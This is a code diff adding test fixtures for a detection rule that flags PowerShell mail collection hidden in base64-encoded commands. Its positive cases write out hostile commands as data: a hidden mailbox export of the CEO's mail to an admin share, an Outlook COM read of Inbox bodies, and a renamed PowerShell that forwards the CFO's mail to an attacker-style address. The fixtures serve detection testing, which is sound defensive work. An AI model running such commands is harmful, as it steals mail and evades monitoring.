@@ -548,3 +548,25 @@ VARIANTS["win_mail_store_copy_or_archive"] += [
     neg("win_mail_store_copy_or_archive", "esentutl_copies_search_index", "esentutl copies the Windows Search index (Windows.edb): an ESE database, not mail.",
         proc("C:\\Windows\\System32\\esentutl.exe", "esentutl.exe /y C:\\ProgramData\\Microsoft\\Search\\Data\\Applications\\Windows\\Windows.edb /d C:\\Temp\\w.edb", "esentutl.exe")),
 ]
+
+
+def encoded(text: str) -> str:
+    """PowerShell's -EncodedCommand form of a script: base64 of its UTF-16LE bytes."""
+    import base64
+
+    return base64.b64encode(text.encode("utf-16-le")).decode("ascii")
+
+
+R = "win_mail_collection_encoded_command"
+FIXTURES[R] = [
+    pos(R, "encoded_mailbox_export", "An encoded command exports the CEO mailbox to an admin share (only the base64 is in the process event).",
+        ps("powershell.exe -nop -w hidden -enc " + encoded("New-MailboxExportRequest -Mailbox ceo -FilePath \\\\EXCH01\\c$\\Windows\\Temp\\c.pst"), host=EXCH)),
+    pos(R, "encoded_outlook_inbox_lower_case", "An encoded one-liner in lower case reads the Inbox through Outlook COM (Security 4688).",
+        proc(PS, "powershell -e " + encoded("$o=new-object -comobject outlook.application;$o.getnamespace('mapi').getdefaultfolder(6).items|%{$_.body}"), via="security")),
+    pos(R, "encoded_forwarding_renamed_powershell", "Renamed PowerShell with an encoded Set-Mailbox -ForwardingSmtpAddress, text offset by one character (Elastic: Defend).",
+        proc("C:\\ProgramData\\upd.exe", "upd.exe -EncodedCommand " + encoded(" Set-Mailbox cfo -ForwardingSmtpAddress smtp:x@evil.example"), "PowerShell.EXE", via="defend")),
+    neg(R, "encoded_inventory_script", "A management agent's encoded inventory command: nothing of mail.",
+        ps("powershell.exe -NoProfile -EncodedCommand " + encoded("Get-CimInstance Win32_OperatingSystem | Select-Object Caption,Version"))),
+    neg(R, "encoded_mailbox_statistics", "An encoded Exchange report (Get-MailboxStatistics): read-only, no collection.",
+        ps("powershell.exe -enc " + encoded("Get-Mailbox -ResultSize Unlimited | Get-MailboxStatistics | Select DisplayName,TotalItemSize"), host=EXCH)),
+]
